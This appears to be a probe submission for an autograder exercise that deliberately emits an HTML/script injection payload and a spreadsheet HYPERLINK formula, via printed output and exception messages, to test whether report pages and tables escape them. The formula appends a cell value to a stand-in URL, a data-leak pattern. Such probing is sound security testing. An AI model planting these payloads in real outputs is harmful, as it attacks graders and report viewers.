"""
exercise: ex03_backward
tries: markup and formulas in output, messages and names, for whatever page or table shows them
earns: nothing
"""

SCRIPT = "</pre></script><script>document.title='owned'</script><img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("http://example.invalid"&A1,"passed")'


def answer(name, *args, **kwargs):
    print(SCRIPT, FORMULA)
    raise ValueError(FORMULA if name == "slope" else SCRIPT)
